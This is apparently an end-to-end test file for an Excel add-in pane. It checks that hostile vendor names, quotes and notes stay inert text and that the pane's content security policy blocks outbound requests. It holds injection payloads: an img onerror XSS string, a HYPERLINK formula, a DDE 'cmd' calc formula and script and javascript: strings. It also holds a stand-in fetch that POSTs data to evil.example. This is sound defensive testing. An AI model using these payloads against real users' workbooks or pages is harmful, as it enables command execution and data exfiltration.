import { readFileSync } from 'node:fs';
import { Workbook } from '@cj-tech-master/excelts';
import type { Frame } from 'playwright-core';
import { type OpenWorkbench, startWorkbench, type WorkbenchPage } from '../support/workbench';

jest.setTimeout(240_000);

let workbench: OpenWorkbench;

beforeAll(async () => { workbench = await startWorkbench(); });

afterAll(() => workbench.close());

/** What a cell could try, as names, notes and quotes of vendors. */
const image = '<img src=https://evil.example/x onerror="top.taken=1;taken=1">';
const link = '=HYPERLINK("https://evil.example/","x")';
const hostile = [image, link, '+1', '-1', '@SUM(A1:A2)', '=cmd|\'/c calc\'!A1', '<script>taken=1</script>', 'javascript:taken=1'];

/** Requests that went anywhere but to the folder from which the page came. */
function foreign({ page, requests }: WorkbenchPage): readonly string[] {
  const { origin } = new URL(page.url());
  return requests.filter((url) => !url.startsWith(`${origin}/`) && !/^(data|blob):/.test(url));
}

async function unfold(pane: Frame): Promise<void> {
  await pane.evaluate(() => { document.querySelectorAll('details').forEach((part) => { part.open = true; }); });
}

/** Every step of the pane, all of it unfolded, and what it says. */
async function walk({ pane }: WorkbenchPage): Promise<string> {
  const said: string[] = [];
  for (const tab of await pane.getByRole('tab').all()) {
    await tab.click();
    await pane.locator('.formulas, .function-group, .subtitle').first().waitFor();
    await unfold(pane);
    said.push(await pane.locator('body').innerText(), ...(await pane.locator('option').allTextContents()));
  }
  return said.join('\n');
}

/** What text would have become if a page took it for HTML. */
async function taken(opened: WorkbenchPage): Promise<readonly unknown[]> {
  const inFrame = (): readonly unknown[] => [(globalThis as { taken?: number }).taken, ...[...document.querySelectorAll('img[src*="evil"], a[href*="evil"], a[href^="javascript"], iframe[src*="evil"]')].map(({ outerHTML }) => outerHTML)];
  return [...(await opened.pane.evaluate(inFrame)), ...(await opened.page.evaluate(inFrame))].filter((one) => one !== undefined);
}

const saidBy = (pane: Frame): Promise<unknown> => pane.locator('.message-success').first().waitFor();

describe('a workbook whose names, quotes and notes are hostile', () => {
  it('stays text in the pane, in sheets and in files, and nothing is asked of anybody else', async () => {
    const opened = await workbench.open('?lang=en-US');
    const { page, pane } = opened;

    // An offer and a vendor of these names, by way of a pasted quote.
    const quoted = hostile.map((name, index) => ({ name, text: `HD: ${20 + index} CNY per 1000 minutes` }));
    for (const { name, text } of quoted.slice(0, 2)) {
      await pane.getByRole('tab').nth(1).click();
      await pane.locator('#quote-text').fill(`${name}\n${text}`);
      await pane.locator('#quote-offer').fill(name);
      await pane.locator('#quote-vendor').fill(name);
      for (const confirm of await pane.locator('#read-quote button').filter({ hasText: /^Confirm/ }).all()) await confirm.click();
      await pane.locator('#quote-write').click();
      await pane.locator('.message-success').filter({ hasText: name }).waitFor();
      await opened.ask((hook) => hook.settled());
    }
    // The same straight into cells, as somebody else's workbook would bring them.
    await pane.evaluate((names) => Excel.run(async (context) => {
      const range = context.workbook.worksheets.getItem('Usage').getRange('L5:L12');
      range.values = names.map((name) => [`'${name}`]);
      await context.sync();
    }), hostile);
    expect((await opened.ask((hook) => hook.range('Usage!L5:L12'))).flat()).toEqual(hostile);
    expect(await opened.ask((hook) => hook.formulas('Usage!L5:L12'))).toEqual(await opened.ask((hook) => hook.range('Usage!L5:L12')));

    // An evaluator, a promise, a contract and a budget; then what the pane makes of all of it.
    await pane.getByRole('tab').nth(3).click();
    await pane.locator('#vendors-evaluators').fill(link);
    await pane.locator('#vendors-evaluators').press('Enter');
    await pane.locator('#mark-0-0').waitFor();
    await pane.getByRole('tab').nth(2).click();
    await pane.locator('#negotiate-budget').fill('12,000,000');
    await pane.locator('#negotiate-walk-away-write').click();
    await saidBy(pane);
    await pane.locator('#negotiate-talk-make').click();
    await pane.locator('#negotiate-talk-text').waitFor();
    await pane.getByRole('tab').nth(4).click();
    await pane.locator('#clauses-make').click();
    await pane.locator('#promise-text').waitFor({ state: 'attached' });
    await unfold(pane);
    await pane.locator('#promise-text').fill(image);
    await pane.locator('#promise-by').fill(link);
    await pane.locator('#promise-log').click();
    await opened.ask((hook) => hook.settled());
    await pane.locator('#contract-paste').fill(hostile.map((text, index) => `${index + 1}. ${text}`).join('\n'));
    await pane.locator('#report-make').click();
    await pane.locator('.message-success').filter({ hasText: 'Report' }).waitFor();
    await opened.ask((hook) => hook.settled());

    const said = await walk(opened);
    expect(said).toContain(image);
    expect(said).toContain(link);
    expect(await taken(opened)).toEqual([]);

    // Text that begins as a formula is a formula in no sheet; formulas there are ours, and none of them links.
    const cells = await pane.evaluate(() => Excel.run(async (context) => {
      const sheets = context.workbook.worksheets;
      sheets.load('items/name');
      await context.sync();
      const used = sheets.items.map((sheet) => sheet.getUsedRange());
      used.forEach((range) => { range.load(['formulas', 'values']); });
      await context.sync();
      return used.flatMap((range) => range.formulas.flatMap((row: unknown[], r: number) => row.map((formula, c) => ({ formula, value: (range.values[r] as unknown[])[c] }))));
    }));
    const run = cells.filter(({ formula, value }) => formula !== value && typeof formula === 'string' && formula.startsWith('=') && /HYPERLINK|cmd\|/.test(formula));
    expect(run).toEqual([]);
    const texts = cells.map(({ value }) => value);
    for (const name of [image, link]) expect(texts.filter((text) => text === name).length).toBeGreaterThan(1);

    // The copy of values, and the request that goes to a vendor.
    await pane.locator('#freeze-choose').click();
    const [copied] = await Promise.all([page.waitForEvent('download'), pane.locator('#freeze-make').click()]);
    await pane.getByRole('tab').nth(0).click();
    await pane.locator('#ask-vendor').fill(link);
    const [asked] = await Promise.all([page.waitForEvent('download'), pane.locator('#ask-make').click()]);
    for (const [file, names] of [[copied, [image, link]], [asked, [link]]] as const) {
      const book = new Workbook();
      await book.xlsx.load(readFileSync(await file.path()));
      const written = book.worksheets.flatMap((sheet) => Array.from({ length: sheet.rowCount }, (_row, r) => Array.from({ length: sheet.columnCount }, (_column, c) => sheet.getCell(r + 1, c + 1)))).flat();
      expect(written.filter(({ formula, hyperlink }) => /HYPERLINK|cmd\|/.test(formula ?? '') || (hyperlink ?? '').includes('evil'))).toEqual([]);
      for (const name of names) expect(written.some(({ value }) => typeof value === 'string' && value.includes(name))).toBe(true);
    }

    expect(await taken(opened)).toEqual([]);
    expect(foreign(opened)).toEqual([]);
    expect(opened.errors).toEqual([]);
  });
});

describe('the pane’s page', () => {
  it('may not send anything anywhere, nor run what is written into it', async () => {
    const opened = await workbench.open('?lang=en-US');
    const refused = await opened.pane.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => { violations.push(effectiveDirective); });
      const sent = await fetch('https://evil.example/', { method: 'POST', body: 'price' }).then(() => 'sent', () => 'refused');
      document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/price" onerror="taken=1"><form action="https://evil.example/"></form><iframe src="https://evil.example/"></iframe><p style="background:url(https://evil.example/)"></p>');
      const script = document.createElement('script');
      script.textContent = 'taken = 1';
      document.body.append(script);
      document.querySelector('form')?.submit();
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { sent, violations: [...new Set(violations)].sort(), ran: (globalThis as { taken?: number }).taken ?? null };
    });
    expect(refused).toEqual({ sent: 'refused', ran: null, violations: ['connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem', 'style-src-attr'] });
  });
});
